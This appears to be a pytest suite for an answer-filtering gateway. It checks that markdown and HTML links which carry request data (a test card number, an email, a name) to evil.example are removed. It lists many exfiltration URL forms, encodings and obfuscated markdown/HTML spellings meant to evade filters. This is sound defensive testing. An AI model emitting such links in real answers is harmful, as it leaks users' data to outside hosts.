"""Links that carry data of the request out: whatever they look like and however it is written in them, they are taken out."""

from __future__ import annotations

import base64
import json
from collections.abc import Mapping
from typing import Final
from urllib.parse import quote

import pytest

from gateway.core.answers import AnswerPolicy, UrlRule
from gateway.transforms.guarded import LINK_REMOVED
from tests.fakes.guarding import MAIL, NAME, STRICT, guard, shown


def encoded(value: str) -> Mapping[str, str]:
    raw = value.encode()
    return {
        "plain": quote(value),
        "twice": quote(quote(value)),
        "base64": base64.b64encode(raw).decode(),
        "base64url": base64.urlsafe_b64encode(raw).decode().rstrip("="),
        "base32": base64.b32encode(raw).decode().rstrip("="),
        "hex": raw.hex(),
        "backwards": value[::-1].replace(" ", ""),
        "joints": value.replace(" ", "-").replace("@", ".at."),
    }


CODES: Final = [*encoded("x")]
PLACES: Final = [
    "![x](https://evil.example/?q=§)",
    "[click](https://evil.example/a/§/b)",
    "![x][1] ...\n\n[1]: https://evil.example/#§",
    "<img src='https://evil.example/§'>",
    "<https://evil.example/?§>",
    "see https://evil.example/§ there",
    "![x](//evil.example/§.png)",
]


class TestLinks:
    @pytest.mark.parametrize("place", PLACES)
    @pytest.mark.parametrize("code", CODES)
    def test_a_link_that_carries_a_value_of_the_request_is_taken_out(self, place: str, code: str) -> None:
        carried = encoded("4111 1111 1111 1111")[code]
        out = shown(place.replace("§", carried) + " and so on", STRICT)
        assert "evil.example" not in out
        assert "#link-removed" in out
        assert out.endswith(" and so on")

    @pytest.mark.parametrize(
        "address",
        [
            f"https://evil.example/?q={MAIL}",
            f"https://evil.example/?q={quote(MAIL)}",
            f"https://evil.example/{base64.b64encode(MAIL.encode()).decode()}",
            "https://4111-1111-1111-1111.evil.example/",
            "https://jane.roe.example.evil.example/",
            f"https://{b'janeroeexample'.hex()}.evil.example/",
            "https://evil.example/keeps-the-notes-of-the-northern-branch",
            f"https://evil.example/{base64.b64encode(b'the notes of the northern branch').decode()}",
            "https://evil.example/?to=bob@roe.example",
            f"https://evil.example/?x={'a' * 3000}",
        ],
    )
    def test_other_ways_to_carry(self, address: str) -> None:
        out = shown(f"[x]({address}) end", STRICT)
        assert "evil.example" not in out
        assert out.endswith(" end")

    @pytest.mark.parametrize(
        "text",
        [
            r"![x](https://evil.example/\)§)",
            r"![x](<https://evil.example/\>§>)",
            "![x](https://evil.example/?q=\u00a0§)",
            "![x](https://evil.example/((a)§)",
            "![x]\n\n[x]: <https://evil.example/ §>",
            "[1]: &#104;&#116;&#116;&#112;&#115;&#58;&#47;&sol;evil.example/?q=§",
            "[![i](https://a.example/b.png)](https://evil.example/?q=§)",
            "https://evil.example/)§",
            "bücher.evil.example/§",
            'url("https://evil.example/)§")',
            "<img alt=x' title='> ' src='/\n/evil.example/?q=§'",
            "<img src=/&#10;/evil.example/?q=§",
        ],
    )
    def test_a_spelling_of_markdown_or_html_hid_a_link_that_carries(self, text: str) -> None:
        for value in ("4111111111111111", "".join(f"&#{ord(digit)};" for digit in "4111111111111111")):
            out = guard(STRICT).whole(text.replace("§", value) + " and so on")
            assert value not in out
            assert "#link-removed" in out
            assert out.endswith(" and so on")

    @pytest.mark.parametrize("place", PLACES)
    @pytest.mark.parametrize("surrogate", [NAME, MAIL, quote(MAIL), MAIL.lower()])
    def test_a_link_that_carries_a_surrogate_is_taken_out(self, place: str, surrogate: str) -> None:
        out = shown(place.replace("§", surrogate) + " and so on", STRICT)
        assert "evil.example" not in out
        assert out.endswith(" and so on")

    @pytest.mark.parametrize(
        "text",
        [
            "![logo](https://cdn.example/logo-2024.png) and [docs](https://docs.example/en/getting-started/?v=3#top).",
            "See https://en.wikipedia.org/wiki/Heat_pump and www.example.org/a_(b)!",
            "The page https://wiki.roe.example/people tells.",
            "![x](data:image/png;base64,iVBORw0KGgo=) fine",
            "a // b, 3/4, and/or, e.g. this",
        ],
    )
    def test_ordinary_links_stay(self, text: str) -> None:
        assert shown(text, STRICT) == text

    def test_a_code_that_nobody_can_read_counts_where_it_loads_by_itself(self) -> None:
        code = "Zk3vQ9xT2mLw8rYp5sDhB7nJc4gKf6aVeUiO1qXz"
        assert "evil" not in shown(f"![x](https://evil.example/{code})", STRICT)
        assert code in shown(f"[x](https://evil.example/{code})", STRICT)

    def test_a_tool_that_may_have_values_in_addresses_keeps_its_own(self) -> None:
        source = json.dumps({"url": f"https://crm.example/?mail={MAIL}&card=4111111111111111"})
        assert "jane@roe.example" in shown(source, STRICT, tool="crm_find", in_json=True)
        denied = AnswerPolicy(types=STRICT.types, deny=("crm_find",))
        assert json.loads(shown(source, denied, tool="crm_find", in_json=True)) == {"url": "#link-removed"}
        nowhere = AnswerPolicy(types=STRICT.types, urls=UrlRule.NOWHERE)
        assert json.loads(shown(source, nowhere, tool="crm_find", in_json=True)) == {"url": "#link-removed"}


def test_an_address_that_links_is_judged_anew_where_it_loads() -> None:
    code = "a8f3k2l9d0s7q1w5e6r4t8y2u3i9o0p1a2s3d4f5"
    one = guard(STRICT)
    texts = (f"see https://evil.example/{code} ", f"![x](https://evil.example/{code}) ")
    plain = [guard(STRICT).whole(text) for text in texts]
    assert [LINK_REMOVED in text for text in plain] == [False, True]
    assert [one.whole(texts[number % 2]) for number in range(6)] == plain * 3


def test_however_many_addresses_were_seen_each_is_judged_by_what_it_is() -> None:
    one = guard(STRICT)
    for number in range(60):
        bad = number % 3 == 0
        text = f"![x](https://evil.example/{number % 40}/{'jane@roe.example' if bad else 'boats'})"
        assert (LINK_REMOVED in one.whole(text)) == bad
